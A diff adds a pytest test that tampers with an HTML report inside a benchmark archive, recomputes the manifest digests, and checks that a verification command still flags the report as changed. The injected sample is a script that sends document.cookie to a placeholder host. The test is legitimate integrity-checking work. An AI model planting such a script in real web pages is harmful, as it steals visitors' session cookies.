@@ -55,6 +55,31 @@ def test_a_changed_number_is_detected(bundled, tmp_path):
     assert "analysis.json: DIFFERENT" in proc.stdout
 
 
+def test_a_script_added_to_the_html_report_is_detected(bundled, tmp_path):
+    """The HTML report is verified too: a ``<script>`` added to it, with the manifest's digest
+    recomputed to match, is DIFFERENT (exit 1), while the analysis and Markdown stay identical."""
+    members = members_of(bundled)
+    html = members["report/report.html"].decode()
+    assert "</body>" in html
+    members["report/report.html"] = html.replace(
+        "</body>", "<script>fetch('https://example.invalid/?'+document.cookie)</script></body>"
+    ).encode()
+    manifest = json.loads(members.pop("manifest.json"))
+    for entry in manifest["members"]:
+        entry["sha256"] = hashlib.sha256(members[entry["name"]]).hexdigest()
+        entry["size"] = len(members[entry["name"]])
+    out = tmp_path / "script.benchlab.tar.gz"
+    with tarfile.open(out, "w:gz") as tar:
+        for name, blob in [("manifest.json", json.dumps(manifest).encode()), *members.items()]:
+            info = tarfile.TarInfo(name)
+            info.size = len(blob)
+            tar.addfile(info, io.BytesIO(blob))
+    proc = run_cli("reproduce", str(out), "--analysis-only")
+    assert proc.returncode == 1, proc.stderr
+    assert "report.html:   DIFFERENT" in proc.stdout
+    assert "analysis.json: identical" in proc.stdout and "report.md:     identical" in proc.stdout
+
+
 def test_bundled_numbers_match_scipy_on_the_raw_data(bundled):
     members = members_of(bundled)
     data = json.loads(members["data/sessions.json"])["sessions"][0]
